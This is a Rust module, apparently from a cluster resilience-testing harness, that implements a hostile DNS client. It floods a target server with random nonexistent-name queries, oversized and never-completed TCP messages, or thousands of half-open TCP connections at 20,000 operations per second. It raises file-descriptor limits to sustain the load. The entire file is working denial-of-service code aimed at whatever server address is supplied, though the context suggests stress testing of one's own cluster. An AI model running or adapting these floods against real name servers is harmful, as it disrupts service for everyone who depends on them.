//! A hostile client of a server of names: whatever it may do to keep others from being answered, until SIGTERM.

use std::io::Write;
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::time::{Duration, Instant};

use hickory_proto::op::{Message, MessageType, OpCode, Query};
use hickory_proto::rr::{Name, RecordType};
use nix::sys::prctl::set_timerslack;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use serde_json::{Value, json};
use socket2::{Domain, Protocol, Socket, Type};

use super::{Event, Stop};
use crate::Result;

/// What it does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(super) enum How {
    /// Names that don't exist, of the cluster and outside it, each another one.
    Random,
    /// Queries that are longer than any may be, in fragments, and over TCP without end.
    Oversized,
    /// TCP connections, as many as there may be, none of which says anything whole.
    HalfOpen,
}

/// Whom, how, how often.
#[derive(Clone, Debug, clap::Args)]
pub struct Plan {
    /// The server.
    server: IpAddr,
    /// What it does.
    #[arg(long, value_enum)]
    how: How,
    /// Times a second.
    #[arg(long, default_value_t = 20_000)]
    rate: u32,
    /// Sender of the datagrams, which this pod's device has beside its own.
    #[arg(long)]
    from: Option<IpAddr>,
}

/// Sockets of datagrams; of a server's threads each gets some.
const SOCKETS: usize = 32;
/// Connections at the same time.
const CONNECTIONS: usize = 4000;
/// Sizes of queries that are too long.
const SIZES: [usize; 4] = [513, 1501, 4096, 60_000];
/// Pause between two looks at what is due.
const STEP: Duration = Duration::from_millis(1);

/// Goes on until a signal comes.
pub(super) fn run(plan: &Plan, stop: &Stop) -> Result<Value> {
    let limit = getrlimit(Resource::Nofile);
    // Where that isn't allowed there are fewer connections.
    let _ = setrlimit(Resource::Nofile, Rlimit { current: limit.maximum, maximum: limit.maximum });
    set_timerslack(1)?;
    let mut flood = Flood::new(plan)?;
    let began = Instant::now();
    let mut done = 0_u64;
    loop {
        let due = u64::try_from(began.elapsed().as_micros())? * u64::from(plan.rate) / 1_000_000;
        for number in done..due {
            match plan.how {
                How::Random => flood.random(number)?,
                How::Oversized => flood.oversized(number)?,
                How::HalfOpen => flood.half_open(number),
            }
        }
        done = done.max(due);
        if stop.or_readable(&flood.quiet, STEP)? == Event::Stop {
            let open = flood.connections.iter().flatten().count();
            return Ok(
                json!({"ok": flood.sent > 0, "sent": flood.sent, "refused": flood.refused, "open": open}),
            );
        }
    }
}

struct Flood {
    to: SocketAddr,
    sockets: Vec<UdpSocket>,
    /// Nothing ever comes here.
    quiet: UdpSocket,
    names: [Vec<u8>; 2],
    connections: Vec<Option<Socket>>,
    sent: u64,
    refused: u64,
}

/// Place of the random label in a query: behind the header and its own length.
const LABEL: usize = 13;
/// Its length.
const LENGTH: usize = 16;

impl Flood {
    fn new(plan: &Plan) -> Result<Self> {
        let any: IpAddr = if plan.server.is_ipv4() { [0, 0, 0, 0].into() } else { [0_u16; 8].into() };
        let to = SocketAddr::new(plan.server, 53);
        let socket = |_| -> Result<UdpSocket> {
            let socket = UdpSocket::bind((plan.from.unwrap_or(any), 0))?;
            socket.set_nonblocking(true)?;
            Ok(socket)
        };
        let names =
            ["default.svc.cluster.local.", "example.test."].map(|domain| query(domain, RecordType::A));
        let [cluster, outside] = names;
        Ok(Self {
            to,
            sockets: (0..SOCKETS).map(socket).collect::<Result<_>>()?,
            quiet: UdpSocket::bind((any, 0))?,
            names: [cluster?, outside?],
            connections: (0..CONNECTIONS).map(|_| None).collect(),
            sent: 0,
            refused: 0,
        })
    }

    /// What can't be sent is counted: a full queue, a rule that drops.
    fn datagram(&mut self, number: u64, bytes: &[u8]) {
        let place = usize::try_from(number).unwrap_or(0) % self.sockets.len();
        match self.sockets[place].send_to(bytes, self.to) {
            Ok(_) => self.sent += 1,
            Err(_) => self.refused += 1,
        }
    }

    fn random(&mut self, number: u64) -> Result {
        let place = usize::try_from(number % 2)?;
        let mut query = self.names[place].clone();
        query[..2].copy_from_slice(&u16::try_from(number % 65_536)?.to_be_bytes());
        // Another name each time, also after a restart.
        let label = format!(
            "{:016x}",
            (number ^ super::now_us().rotate_left(32)).wrapping_mul(0x9e37_79b9_7f4a_7c15)
        );
        query[LABEL..LABEL + LENGTH].copy_from_slice(label.as_bytes());
        self.datagram(number, &query);
        Ok(())
    }

    fn oversized(&mut self, number: u64) -> Result {
        let mut query = self.names[usize::try_from(number % 2)?].clone();
        query.resize(SIZES[usize::try_from(number)? % SIZES.len()], 0x61);
        if number % 64 == 63 {
            // A message that says it is as long as one can be, and is never whole.
            if let Ok(mut stream) = TcpStream::connect_timeout(&self.to, Duration::from_millis(20)) {
                stream.set_nonblocking(true)?;
                let _ = stream.write_all(&[0xff; 2]).and_then(|()| stream.write_all(&query));
                let place = usize::try_from(number / 64)? % self.connections.len();
                self.connections[place] = Some(stream.into());
            }
        }
        self.datagram(number, &query);
        Ok(())
    }

    /// Connects without waiting for what comes of it; a place that was used is used again.
    fn half_open(&mut self, number: u64) {
        let place = usize::try_from(number).unwrap_or(0) % self.connections.len();
        if let Some(old) = self.connections[place].take() {
            // The first octet of a length, if anybody listens.
            let _ = old.send(&[0]);
            // A reset instead of an orderly end: no place is left waiting on our side.
            let _ = old.set_linger(Some(Duration::ZERO));
        }
        let open = || -> std::io::Result<Socket> {
            let socket = Socket::new(Domain::for_address(self.to), Type::STREAM, Some(Protocol::TCP))?;
            socket.set_nonblocking(true)?;
            match socket.connect(&self.to.into()) {
                Err(e) if e.raw_os_error() == Some(nix::libc::EINPROGRESS) => Ok(socket),
                Err(e) => Err(e),
                Ok(()) => Ok(socket),
            }
        };
        match open() {
            Ok(socket) => {
                self.connections[place] = Some(socket);
                self.sent += 1;
            }
            Err(_) => self.refused += 1,
        }
    }
}

/// A question for a name whose first label is written later.
fn query(domain: &str, kind: RecordType) -> Result<Vec<u8>> {
    let name: Name = format!("{}.{domain}", "x".repeat(LENGTH)).parse()?;
    let mut message = Message::new(0, MessageType::Query, OpCode::Query);
    message.metadata.recursion_desired = true;
    message.add_query(Query::query(name, kind));
    Ok(message.to_vec()?)
}
